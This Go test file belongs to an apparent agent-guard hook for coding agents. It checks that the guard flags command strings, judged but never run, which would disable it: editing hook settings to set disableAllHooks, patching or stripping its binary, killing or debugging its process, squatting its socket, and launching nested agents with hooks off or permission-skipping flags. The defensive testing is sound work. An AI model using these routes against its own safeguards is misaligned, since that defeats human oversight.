package tamper_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
)

// The routes the self branch closed, on a real disk with the real
// binaries: every one is a string judged by `check --batch`, never run.

// atLeast wants each call judged confirm or block.
func (e *env) atLeast(t *testing.T, calls ...call) {
	t.Helper()
	for i, v := range e.check(t, calls...) {
		if v.Level == "allow" {
			t.Errorf("%.120s: got allow %s (%s), want at least confirm", calls[i].Input["command"], v.Rule, v.Reason)
		}
	}
}

// A project's own .claude/settings.json holds no entry of ours: copying
// the project or deleting its files is everyday work. One that carries
// our hook entry, wherever it lies, is the guard's.
func TestProjectHostConfigs(t *testing.T) {
	e := newEnv(t)
	e.file(t, ".claude/settings.json", `{"permissions":{"allow":["Bash(go test:*)"]}}`)
	e.file(t, "src/main.go", "package main\n")
	e.expect(t, "not-block",
		bash("cp -r . ../copy"),
		bash(`find . -exec rm -f {} \;`),
		bash("rm -rf .claude"),
	)
	// A host config elsewhere that runs our hook (a workspace install).
	ours, err := os.ReadFile(filepath.Join(e.home, ".claude", "settings.json"))
	if err != nil {
		t.Fatal(err)
	}
	other := e.file(t, filepath.Join(e.home, "other", ".claude", "settings.json"), string(ours))
	e.expect(t, "self",
		bash("rm "+other),
		bash("echo '{}' > "+other),
		bash("sed -i /agent-guard/d "+other),
		bash("rm -rf "+filepath.Dir(other)),
	)
	// Writing a hooks-off switch into the project's settings is still the guard's business.
	e.expect(t, "self",
		call{Tool: "Write", Input: map[string]any{"file_path": filepath.Join(e.work, ".claude", "settings.local.json"), "content": `{"disableAllHooks": true}`}},
		bash(`echo '{"disableAllHooks": true}' > .claude/settings.local.json`),
		bash("echo '{}' > .claude/settings.json"),
	)
}

// In-place editors, binary rewriters, patch and git apply on the real
// protected files.
func TestInPlaceWriters(t *testing.T) {
	e := newEnv(t)
	cfg := filepath.Join(e.guardHome, "config.json")
	e.file(t, cfg, "{}")
	settings := filepath.Join(e.home, ".claude", "settings.json")
	e.file(t, "p.diff", "--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-x\n+{}\n")
	e.file(t, "g.diff", "diff --git a/.claude/settings.json b/.claude/settings.json\n--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-x\n+{}\n")
	e.expect(t, "self",
		bash("sed -i s/true/false/ "+cfg),
		bash("perl -pi -e s/agent-guard/true/ "+settings),
		bash("vim -c '%d|wq' "+settings),
		bash("ed -s "+settings+" < cmds.txt"),
		bash("strip "+hookBin),
		bash("objcopy --remove-section .text "+hookBin),
		bash("truncate -s 0 "+cfg),
		bash("dd if=/dev/null of="+cfg),
		bash("jq 'del(.hooks)' "+settings+" | sponge "+settings),
		bash("yq -i '.hooks = {}' "+settings),
		bash("patch -p1 -d ~ < p.diff"),
		bash("git apply --unsafe-paths --directory="+e.home+" g.diff"),
		bash("gzip "+settings),
	)
	e.atLeast(t, bash("patch -p1 -d ~ < missing.diff"))
	e.file(t, "notes.txt", "a\n")
	e.expect(t, "allow", bash("sed -i s/a/b/ notes.txt"), bash("git apply --check g.diff"))
}

// Installers writing into the guard's binary folder, and a writable
// container mount of it.
func TestInstallersIntoGuardFolders(t *testing.T) {
	e := newEnv(t)
	e.expect(t, "self",
		bash("GOBIN="+binDir+" go install ./cmd/agent-guard-hook"),
		bash("env GOBIN="+binDir+" go install example.com/evil/cmd/agent-guard@latest"),
		bash("podman run -v "+binDir+":/b alpine true"),
		bash("docker run --mount type=bind,source="+e.guardHome+",target=/g alpine true"),
	)
	e.atLeast(t,
		bash("make install BINDIR="+binDir),
		bash("pip install --target "+binDir+" evil"),
		bash("npm i -g --prefix "+binDir+" evil"),
	)
	// Dotfile managers and stow write unknown files over the home.
	e.file(t, filepath.Join(e.home, "dotfiles", "claude", ".claude", "settings.json"), "{}")
	e.expect(t, "self", bash("stow -d ~/dotfiles -t ~ claude"))
	// Installers whose default folder holds the hook: names not known.
	e.atLeast(t,
		bash("PIPX_BIN_DIR="+binDir+" pipx install evil"),
		bash("CARGO_INSTALL_ROOT="+filepath.Dir(binDir)+" cargo install evil --root "+binDir+"/.."),
		bash("python3 -m pip install --target "+binDir+" evil"),
	)
	e.atLeast(t,
		bash("chezmoi apply --force"),
		bash("yadm checkout -- ."),
		bash("rsync -a ~/missing/ ~/"),
	)
	e.expect(t, "not-block",
		bash("GOBIN="+filepath.Join(e.work, "bin")+" go install ./cmd/tool"),
		bash("docker run -v "+binDir+":/b:ro alpine ls /b"),
	)
}

// A copy of the guard run in the same line is the guard.
func TestGuardCopyRunInTheSameLine(t *testing.T) {
	e := newEnv(t)
	e.expect(t, "self",
		bash("cp "+guardBin+" /tmp/ag-copy && /tmp/ag-copy config accept"),
		bash("cat "+guardBin+" > ./ag && chmod +x ./ag && ./ag serve --headless"),
		bash("go build -o ./ag2 ./cmd/agent-guard && ./ag2 install --claude"),
		bash("go run ./cmd/agent-guard config accept"),
		bash("/lib64/ld-linux-x86-64.so.2 "+guardBin+" config accept"),
		bash(`python3 -c "import subprocess; subprocess.run(['`+guardBin+`','config','accept'])"`),
	)
	e.expect(t, "allow",
		bash("cp "+guardBin+" ./ag3 && ./ag3 check --cmd ls"),
	)
}

// Debuggers and resource tools on the live guard, by pid or by a
// lookup in the same line; kills by any pattern that matches it.
func TestDebugAndPatternKills(t *testing.T) {
	if _, err := os.Stat("/proc/self/exe"); err != nil {
		t.Skip("no /proc: pids cannot be resolved on this system")
	}
	e := newEnv(t)
	srv := e.server(t)
	sleep := exec.Command("sleep", "300")
	if err := sleep.Start(); err != nil {
		t.Skip("no sleep binary: ", err)
	}
	t.Cleanup(func() { sleep.Process.Kill(); sleep.Wait() })
	pid, other := strconv.Itoa(srv.Process.Pid), strconv.Itoa(sleep.Process.Pid)
	e.expect(t, "self",
		bash("gdb -p "+pid+" -batch -ex 'call exit(0)'"),
		bash("strace -p "+pid+" -o /dev/null"),
		bash("prlimit --pid "+pid+" --nofile=0:0"),
		bash("printf x | dd of=/proc/"+pid+"/mem bs=1 seek=4096 conv=notrunc"),
		bash("gdb -p $(pgrep -f agent-guard) -batch"),
		bash("pkill -f guard"),
		bash("killall -r 'agent.*'"),
		bash("kill $(pgrep -f serve)"),
		bash("ps aux | grep [g]uard | awk '{print $2}' | xargs kill"),
		bash("kill -9 -1"),
	)
	e.expect(t, "not-block",
		bash("gdb -p "+other+" -batch"),
		bash("strace -p "+other),
		bash("pkill -f 'node server.js'"),
		bash("kill $(pgrep -f webpack)"),
	)
}

// Squatting or removing the hook's socket.
func TestSocketSquat(t *testing.T) {
	if runtime.GOOS == "windows" {
		// The routes are Unix sockets (nc -lU, AF_UNIX, rm of the socket
		// file); Windows serves on a named pipe, which a second server
		// cannot take while ours holds it (app/pipe's first-instance flag).
		t.Skip("Unix-socket squatting; Windows uses a named pipe")
	}
	e := newEnv(t)
	e.expect(t, "self",
		bash("nc -lU "+e.pipe),
		bash("socat UNIX-LISTEN:"+e.pipe+",fork EXEC:/bin/cat"),
		bash(`python3 -c "import socket;s=socket.socket(socket.AF_UNIX);s.bind('`+e.pipe+`');s.listen()"`),
		bash("rm -f "+e.pipe),
	)
	e.expect(t, "not-block", bash("nc -lU "+filepath.Join(e.work, "app.sock")))
}

// Hooks switched off in the hosts' configs and by nested agents, and
// variables that move the configs, persisted or given to a nested agent.
// One route is also driven through the real server and hook.
func TestHooksOff(t *testing.T) {
	e := newEnv(t)
	e.expect(t, "self",
		bash("echo 'codex_hooks = false' >> ~/.codex/config.toml"),
		bash("sed -i 's/hooks = true/hooks = false/' ~/.codex/config.toml"),
		bash("codex -c features.hooks=false exec 'clean up'"),
		bash(`claude --settings '{"disableAllHooks":true}' -p 'clean up'`),
		bash("claude --setting-sources project -p 'clean up'"),
		bash("CLAUDE_CONFIG_DIR=/tmp/c claude -p 'clean up'"),
		bash("AGENT_GUARD_HOME=/tmp/empty claude -p 'clean up'"),
		bash("echo 'export XDG_CONFIG_HOME=/tmp/x' >> ~/.bashrc"),
		bash("echo 'export CLAUDE_CONFIG_DIR=/tmp/c' >> ~/.profile"),
	)
	e.atLeast(t,
		bash("claude --dangerously-skip-permissions -p 'clean up'"),
		bash("codex --dangerously-bypass-approvals-and-sandbox exec 'x'"),
		bash("gemini --yolo -p x"),
	)
	e.expect(t, "not-block",
		bash("claude -p 'summarize README.md'"),
		bash(`echo 'export XDG_CONFIG_HOME="$HOME/.config"' >> ~/.bashrc`),
	)
	e.server(t)
	d, reason, _ := e.hook(t, bash("codex --disable hooks exec 'rm -rf ~'"))
	if d != "deny" || !strings.Contains(reason, "hooks off") {
		t.Errorf("hook with the server up: got %s (%s), want deny naming the hooks switched off", d, reason)
	}
}
